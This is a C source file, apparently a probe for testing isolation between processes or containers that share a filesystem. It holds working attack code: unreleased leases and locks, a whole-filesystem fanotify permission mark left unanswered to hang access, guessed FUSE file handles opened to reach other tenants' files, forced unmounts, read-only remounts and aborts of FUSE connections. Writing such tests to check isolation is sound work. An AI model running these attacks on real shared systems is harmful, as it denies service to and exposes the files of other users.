// What somebody who has files of a filesystem can do to others who have files of it:
//
//     attack_across WHAT [FILE...]
//
// lease     F_WRLCK and F_RDLCK leases on FILEs, never given up
// lock      flock(2) and record locks on FILEs
// inotify   watches FILEs; counts events for a second
// fanotify  the same with fanotify(7), of the inodes; "fanotify-mount" of the mounts;
//           "fanotify-all" of the whole filesystem; "hang" the same with events that have to be
//           permitted, which it never does
// handle    opens FILEs by their handles, and by handles of FUSE made up
// force     umount2(2) with MNT_FORCE
// remount   makes the filesystems read-only
// fusectl   aborts the connections of FUSE with these numbers instead of FILEs
//
// Says for each FILE what came of it, and then "done N": how often it could. What can be held is
// held until it is killed.
#define _GNU_SOURCE
#include <errno.h>
#include <fcntl.h>
#include <signal.h>
#include <stdint.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <sys/fanotify.h>
#include <sys/file.h>
#include <sys/inotify.h>
#include <sys/mount.h>
#include <sys/stat.h>
#include <time.h>
#include <unistd.h>

static int done;

static void say(const char *file, const char *what, int result)
{
    printf("%s: %s: %s\n", file, what, result < 0 ? strerror(errno) : "yes");
    if (result >= 0)
        done++;
}

static int take_lease(const char *file, int kind)
{
    int fd = open(file, O_RDONLY | O_NONBLOCK); // its own lease is in the way, too
    if (fd < 0)
        return -1;
    int result = fcntl(fd, F_SETLEASE, kind);
    if (result < 0) {
        int error = errno;
        close(fd);
        errno = error;
    }
    return result;
}

static void take_locks(const char *file)
{
    int fd = open(file, O_RDONLY);
    say(file, "flock", fd < 0 ? fd : flock(fd, LOCK_EX | LOCK_NB));
    int record = open(file, O_RDWR);
    if (record < 0)
        record = fd;
    struct flock lock = {.l_type = record == fd ? F_RDLCK : F_WRLCK};
    say(file, "record lock", fcntl(record, F_SETLK, &lock));
}

static void count_events(int fd)
{
    char bytes[65536];
    size_t all = 0;
    struct timespec end, now;
    clock_gettime(CLOCK_MONOTONIC, &end);
    do {
        ssize_t got = read(fd, bytes, sizeof bytes);
        if (got > 0)
            all += got;
        usleep(10000);
        clock_gettime(CLOCK_MONOTONIC, &now);
    } while (now.tv_sec - end.tv_sec < 2);
    printf("events %zu\n", all);
}

static void watch(char **files)
{
    int fd = inotify_init1(IN_NONBLOCK);
    for (; *files; files++)
        say(*files, "inotify", inotify_add_watch(fd, *files, IN_OPEN | IN_ACCESS));
    fflush(stdout);
    count_events(fd);
}

static int fanotify(char **files, unsigned class, unsigned mark, uint64_t events)
{
    int fd = fanotify_init(class | FAN_NONBLOCK, O_RDONLY);
    if (fd < 0) // without CAP_SYS_ADMIN
        fd = fanotify_init(FAN_CLASS_NOTIF | FAN_REPORT_FID | FAN_NONBLOCK, O_RDONLY);
    for (; *files; files++)
        say(*files, "fanotify",
            fd < 0 ? fd : fanotify_mark(fd, FAN_MARK_ADD | mark, events, AT_FDCWD, *files));
    fflush(stdout);
    return fd;
}

static int open_handle(int mount, struct file_handle *handle)
{
    int fd = open_by_handle_at(mount, handle, O_RDONLY | O_NONBLOCK);
    if (fd >= 0)
        close(fd);
    return fd;
}

struct space {
    struct file_handle handle;
    unsigned char bytes[128];
};

// FILEID_INO64_GEN: struct { u64 nodeid, upper half first; u32 generation }.
static void made_up(struct space *space, uint64_t node)
{
    uint32_t parts[3] = {node >> 32, (uint32_t)node, 0};
    space->handle.handle_bytes = sizeof parts;
    space->handle.handle_type = 0x81;
    memcpy(space->handle.f_handle, parts, sizeof parts);
}

static void handles(const char *file)
{
    struct space space;
    int id, mount = open(file, O_RDONLY);
    if (mount < 0) {
        say(file, "open", -1);
        return;
    }
    space.handle.handle_bytes = sizeof space.bytes;
    int named = name_to_handle_at(AT_FDCWD, file, &space.handle, &id, 0);
    say(file, "handle", named < 0 ? named : open_handle(mount, &space.handle));
    // The root, and what the first thousand containers would have (NodeID).
    int opened = 0;
    for (uint64_t slot = 0; slot < 1000; slot++)
        for (uint64_t number = 1; number <= 34; number++) {
            made_up(&space, ((number - 1) << 28 | slot) * 0x9e3779b97f4a7c15 + 1);
            if (open_handle(mount, &space.handle) >= 0)
                opened++;
        }
    printf("%s: %d made up\n", file, opened);
    done += opened;
    close(mount);
}

// Only those that are named: a machine may have others, of other people.
static void abort_connections(char **numbers)
{
    char path[512];
    mkdir("/control", 0700);
    say("/control", "mount", mount("fusectl", "/control", "fusectl", 0, NULL));
    for (; *numbers; numbers++) {
        snprintf(path, sizeof path, "/control/%s/abort", *numbers);
        int fd = open(path, O_WRONLY);
        say(path, "aborted", fd < 0 ? fd : write(fd, "1", 1));
        if (fd >= 0)
            close(fd);
    }
}

int main(int count, char **words)
{
    if (count < 2)
        return 2;
    const char *what = words[1];
    char **files = words + 2;
    int events = -1;
    signal(SIGIO, SIG_IGN);
    if (!strcmp(what, "inotify"))
        watch(files);
    else if (!strcmp(what, "fanotify"))
        events = fanotify(files, FAN_CLASS_NOTIF, 0, FAN_OPEN | FAN_ACCESS);
    else if (!strcmp(what, "fanotify-mount"))
        events = fanotify(files, FAN_CLASS_NOTIF, FAN_MARK_MOUNT, FAN_OPEN | FAN_ACCESS);
    else if (!strcmp(what, "fanotify-all"))
        events = fanotify(files, FAN_CLASS_NOTIF, FAN_MARK_FILESYSTEM, FAN_OPEN | FAN_ACCESS);
    else if (!strcmp(what, "hang"))
        fanotify(files, FAN_CLASS_CONTENT, FAN_MARK_FILESYSTEM, FAN_OPEN_PERM);
    else if (!strcmp(what, "fusectl"))
        abort_connections(files);
    else
        for (char **file = files; *file; file++) {
            if (!strcmp(what, "lease")) {
                say(*file, "write lease", take_lease(*file, F_WRLCK));
                say(*file, "read lease", take_lease(*file, F_RDLCK));
            } else if (!strcmp(what, "lock"))
                take_locks(*file);
            else if (!strcmp(what, "handle"))
                handles(*file);
            else if (!strcmp(what, "force")) {
                if (mount(*file, *file, NULL, MS_BIND, NULL) == 0)
                    say(*file, "copy", umount2(*file, MNT_FORCE));
                say(*file, "force", umount2(*file, MNT_FORCE));
            } else if (!strcmp(what, "remount"))
                say(*file, "remount",
                    mount(NULL, *file, NULL, MS_REMOUNT | MS_RDONLY | MS_NOSUID, NULL));
        }
    if (events >= 0)
        count_events(events);
    printf("done %d\n", done);
    fflush(stdout);
    for (;;)
        pause();
}
